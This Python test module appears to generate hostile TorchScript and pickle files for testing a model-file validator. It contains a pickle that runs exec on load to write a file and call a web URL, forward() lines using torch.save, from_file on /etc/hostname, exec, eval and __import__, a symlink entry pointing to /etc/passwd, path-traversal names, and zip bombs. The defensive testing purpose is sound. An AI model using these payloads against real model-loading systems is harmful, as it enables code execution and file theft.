"""TorchScript files whose code does more than compute, or whose zip is two things to two."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

from . import web
from .attack import Attack, Make
from .things import validated

Entry = tuple[str, bytes]
NET = "net/code/__torch__.py"
LINES = {
    "save": 'torch.save(x, "marker")',
    "save as a value": "w = torch.save",
    "from_file": 'w = torch.from_file("/etc/hostname", False, 4, dtype=0)',
    "aten from_file": 'w = ops.aten.from_file("marker", True, 4)',
    "method from_file": 'w = ("marker").from_file(True, 4)',
    "method save": '(x).save("marker")',
    "getattr": 'w = getattr("marker", "from_file")',
    "split words": 'w = getattr("marker", "from" "_file")',
    "escaped words": 'w = getattr("marker", "fr\\x6fm_file")',
    "long escape": 'w = getattr("marker", "\\u0066rom_file")',
    "computed words": 'w = getattr("marker", x)',
    "rpc": 'w = ops.prim.rpc_async("{url}", 1)',
    "c10d": "w = ops.c10d.broadcast_([x])",
    "socket": 'import socket\n    socket.create_connection(("127.0.0.1", 1))',
    "import": 'w = __import__("os")',
    "exec": 'exec("open(1)")',
    "eval": 'w = eval("1")',
    "open": 'w = open("marker", "w")',
    "PythonOp": "w = ops.prim.PythonOp(x)",
    "lambda": "w = (lambda: 1)()",
    "a string of code": "w = f\"{torch.save(x, 'marker')}\"",
    "a comment": "pass  # torch",
    "a semicolon": 'pass; torch.save(x, "marker")',
    "a line that goes on": 'torch.\\\n      save(x, "marker")',
    "wide letters": 'torch.\uff53ave(x, "marker")',
    "a decorator": "@torch.save\n    def g(x: Tensor) -> Tensor:\n      return x",
    "another root": "o = ops",
    "torch itself": "o = torch",
    "an unknown name": "w = os.system",
    "loading": 'w = torch.load("marker")',
    "a library": 'w = torch.ops.load_library("marker.so")',
    "walrus": "w = (y := torch)",
    "a class of C++": 'w = __torch__.torch.classes.dist_rpc.WorkerInfo("a", 1)',
    "deep brackets": "w = " + "(" * 3000 + "x" + ")" * 3000,
    "deep attributes": "w = x" + ".a" * 20_000,
    "a wide number": "w = " + "9" * 100_000,
    "zero byte": "w = \0",
    "tab": "\tw = 1",
    "form feed": "\f  w = 1",
    "carriage return": 'w = 1\r    torch.save(x, "marker")',
    "a unicode line": "w = 1\u2028    torch.save(x)",
    "a byte order mark": "\ufeffw = 1",
}
"""Lines of a network's `forward`, and what they try."""


class _Marker:
    """Writes a marker where it is unpickled."""

    def __reduce__(self) -> tuple[object, ...]:
        return exec, (f"open('marker', 'w'); import urllib.request as u; u.urlopen('{web.url()}')",)


def marker() -> bytes:
    """A pickle that runs code: it writes a file, and asks the web."""
    return pickle.dumps(_Marker())


def code(line: str = "pass", before: str = "") -> bytes:
    """A network's code with a line of one's own."""
    return (
        "class Net(Module):\n  __parameters__ = []\n  __buffers__ = []\n"
        f"  training : bool\n{before}"
        "  def forward(self: __torch__.Net,\n    x: Tensor) -> Tensor:\n"
        f"    {line.replace('{url}', web.url())}\n    return torch.relu(x)\n"
    ).encode()


def archive(entries: Sequence[Entry], compress: int = zipfile.ZIP_STORED) -> bytes:
    """A zip with these entries, in this order, two of one name as well."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", compress) as packed:
        for name, content in entries:
            packed.writestr(zipfile.ZipInfo(name), content, compress)
    return data.getvalue()


def network(*more: Entry, program: bytes | None = None, objects: bytes = b"\x80\x02N.") -> bytes:
    """What torch writes of a network, and more entries."""
    entries = [("net/data.pkl", objects), ("net/constants.pkl", b"\x80\x02)."),
               ("net/version", b"3\n"), (NET, code() if program is None else program)]  # fmt: skip
    return archive([*entries, *more])


BAD = code(LINES["save"])
ANYWHERE = ("net/code/x.PY", "net/CODE/x.py", "net/code/x", "net/code/deep/er/x.py",
            "net/code/x.py.txt", "net/code/../code/x.py", "code/x.py", "net/Code/x.Py",
            "net//code/x.py", "net/code/ .py", "net/code/x.debug_pkl.py")  # fmt: skip
OUTSIDE = ("../marker", "/tmp/marker", "net/../../marker", "..\\marker",  # noqa: S108
           "C:\\marker", "net/code/../../marker.py")  # fmt: skip


def _link() -> bytes:
    """An archive one of whose entries is a link to a file outside."""
    entry = zipfile.ZipInfo("net/code/linked.py")
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    data = io.BytesIO(network())
    with zipfile.ZipFile(data, "a") as packed:
        packed.writestr(entry, "/etc/passwd")
    return data.getvalue()


def _claims(size: int) -> bytes:
    """An archive whose code says that it is of another size than it is."""
    data = bytearray(network())
    at = data.rindex(b"PK\1\2", 0, data.rindex(NET.encode()))
    data[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(data)


def _bomb() -> bytes:
    return archive([("net/constants.pkl", b"\x80\x02)."), ("net/data.pkl", b"\x80\x02N."),
                    (NET, b" " * (1 << 29))], zipfile.ZIP_DEFLATED)  # fmt: skip


def _flipped(data: bytes, share: float) -> bytes:
    at = int(share * (len(data) - 1))
    return data[:at] + bytes([data[at] ^ 0x55]) + data[at + 1 :]


FILES: dict[str, Callable[[], bytes]] = {
    "a pickle": marker,
    "a pickle in a zip": lambda: archive([("archive/data.pkl", marker())]),
    "a pickle of torch.save": lambda: archive([("net/data.pkl", marker()), ("net/version", b"3")]),
    "text": lambda: b"hello",
    "nothing": lambda: b"",
    "a tar": lambda: b"x" * 257 + b"ustar\0" + b"x" * 1000,
    "a zip of nothing": lambda: archive([]),
    "no code": lambda: archive([("net/constants.pkl", b"."), ("net/data.pkl", b".")]),
    "a comment at its end": lambda: network()[:-2] + b"\x05\0hello",
    "bytes before it": lambda: b"#!/bin/sh\n" + network(),
    "two zips": lambda: network() + archive([("net/constants.pkl", b"."), (NET, BAD)]),
    "PTMF": lambda: network()[:4] + b"PTMF" + network()[8:],
    "model.json": lambda: network(("net/model.json", b"{}"), (NET + "x", BAD)),
    "a bomb": _bomb,
    "a link": _link,
    "two of one name": lambda: network((NET, BAD)),
    "two of one name, bad first": lambda: archive(
        [("net/constants.pkl", b"\x80\x02)."), (NET, BAD), (NET, code())]),
    "two in other cases": lambda: network((NET.upper(), BAD)),
    "2^32 - 1 bytes": lambda: _claims(2**32 - 1),
    "0 bytes": lambda: _claims(0),
    "__setstate__": lambda: network(program=code(before=(
        "  def __setstate__(self: __torch__.Net,\n    state: Tensor) -> NoneType:\n"
        '    torch.save(state, "marker")\n    return None\n'))),
    "at the top": lambda: network(program=b'torch.save(1, "marker")\n' + code()),
    "classes in data.pkl": lambda: network(
        objects=b"\x80\x02c__torch__.torch.classes.dist_rpc\nWorkerInfo\n)\x81."),
    "classes by parts": lambda: network(
        ("net/more.PKL", b"\x80\x02c__torch__.torch\nclasses.dist_rpc.WorkerInfo\n)\x81.")),
    "10^5 entries": lambda: network(*((f"net/code/{n}.py", b"") for n in range(20_000)),
                                    (NET + "x", BAD)),
    "not UTF-8": lambda: network(program=b"\xff\xfe" + code()),
    "UTF-16": lambda: network(program=code().decode().encode("utf-16")),
    **{f"line {name}": (lambda line=line: network(program=code(line)))
       for name, line in LINES.items()},
    **{f"entry {name}": (lambda name=name: network((name, BAD))) for name in ANYWHERE},
    **{f"cut at {n}": (lambda n=n: network()[: int(n * len(network()))])
       for n in (0.1, 0.5, 0.9, 0.98)},
}  # fmt: skip
PASSED: dict[str, Callable[[], bytes]] = {
    **{f"outside {name}": (lambda name=name: network((name, b"hello"))) for name in OUTSIDE},
    **{f"flipped at {n / 20}": (lambda n=n: _flipped(network(), n / 20)) for n in range(21)},
}
"""What may do no harm: entries that are never unpacked, and bits that nobody reads."""


def _validated(data: Callable[[], bytes]) -> Make:
    """A manifest of such a network, which `validate` opens by the same wall as its script."""

    def make(folder: Path) -> list[str]:
        (folder / "net.pt").write_bytes(data())
        return validated(folder, "net.pt", "torchscript")

    return make


def attacks() -> Iterator[Attack]:
    """Every file."""
    for name, data in FILES.items():
        yield Attack("torchscript", name, _validated(data), "net.pt")
    for name, data in PASSED.items():
        yield Attack("torchscript", name, _validated(data), "")
